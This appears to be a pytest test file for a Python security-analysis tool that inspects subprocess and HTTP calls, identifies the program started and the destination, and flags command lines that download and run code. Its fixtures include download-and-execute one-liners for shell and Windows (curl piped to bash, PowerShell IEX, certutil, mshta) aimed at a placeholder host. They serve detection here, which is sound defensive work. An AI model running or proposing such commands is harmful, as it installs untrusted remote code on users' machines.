"""What a call says is found in every shape of argument, within a bound."""

import pytest

from watchhouse.evidence.facts.code import Call
from watchhouse.evidence.facts.python.objects import Constructed, Items
from watchhouse.evidence.knowledge.programs import fetches_and_runs
from watchhouse.evidence.values import Sink, Value
from watchhouse.evidence.views.arguments import (
    MOST_TEXT,
    address_of,
    command_of,
    destination_of,
    program_of,
    said,
    sends,
)
from watchhouse.model.evidence import Location, Moment


def call(name: str, *arguments: Value, receiver: Value | None = None, **keywords: Value) -> Call:
    return Call(
        name=name,
        arguments=arguments,
        keywords=tuple(keywords.items()),
        receiver=receiver or Value(),
        location=Location(path="a.py", line=1),
        moment=Moment.CALL,
        function="<module>",
        sink=Sink.PROCESS,
    )


def test_texts_inside_containers_are_said() -> None:
    """Lists, dicts and half-known lists are looked into."""
    half = Items(((Value(), Value(const="b")), (Value(const="k"), Value(shown="c{}"))))
    words = said(call("f", Value(const=["a", {"x": b"y"}]), Value(target=half), named=Value(const="z")))
    assert words.split("\n") == ["a", "x", "y", "b", "k", "c{}", "z"]


def test_what_is_said_is_bounded() -> None:
    """Huge arguments cost no more than large ones."""
    assert len(said(call("f", Value(const="a" * (3 * MOST_TEXT)), Value(const="b")))) <= MOST_TEXT


@pytest.mark.parametrize(
    ("argument", "program"),
    [
        (Value(const=["/usr/bin/git", "describe"]), "git"),
        (Value(const="sudo env A=1 curl -s x"), "curl"),
        (Value(const=r'cmd /c "C:\Windows\PowerShell.exe" -c x'), "powershell"),
        (Value(shown="{} -m pip install x"), ""),
        (Value(const=""), ""),
    ],
)
def test_the_program_that_is_started(argument: Value, program: str) -> None:
    """Folders, wrappers, quotes, capitals and suffixes do not hide the program's name."""
    assert program_of(call("subprocess.run", argument)) == program


def test_a_command_given_by_keyword_is_the_command() -> None:
    """`args=` is as good as the first argument."""
    assert command_of(call("subprocess.run", args=Value(const=["a", "b"]))) == "a b"


def test_host_and_path_of_a_connection_are_joined() -> None:
    """A connection opened apart from its request still has one destination."""
    opened = Value(target=Constructed("http.client.HTTPSConnection", (Value(const="name.example"),)))
    request = call("?.request", Value(const="POST"), Value(const="/in"), receiver=opened)
    assert destination_of(request).startswith("//name.example/in\n")
    assert address_of(request).text == "/in"


@pytest.mark.parametrize(("name", "expected"), [("requests.post", True), ("requests.get", False)])
def test_posting_sends_and_getting_does_not(name: str, expected: bool) -> None:  # noqa: FBT001 -- the expected value
    """A bare fetch hands nothing over; with a body or parameters it does."""
    assert sends(call(name, Value(const="u"))) is expected
    assert sends(call(name, Value(const="u"), params=Value())) is True


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://h.invalid/i.sh | sudo -E bash -",
        "bash <(curl -s https://h.invalid/i)",
        'sh -c "$(wget -qO- https://h.invalid/i)"',
        "wget https://h.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
        "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://h.invalid')",
        "iwr http://h.invalid/a.ps1 | iex",
        "certutil -urlcache -f http://h.invalid/a a.exe",
        "mshta http://h.invalid/a.hta",
    ],
)
def test_command_lines_that_fetch_and_run(text: str) -> None:
    """The well-known one-liners of every system are known."""
    assert fetches_and_runs(text)


@pytest.mark.parametrize(
    "text",
    ["curl -O https://h.invalid/a.tar.gz", "pip install x | cat", "wget -q url; echo done", "a curly fetch"],
)
def test_command_lines_that_only_fetch(text: str) -> None:
    """Fetching alone is not running."""
    assert not fetches_and_runs(text)
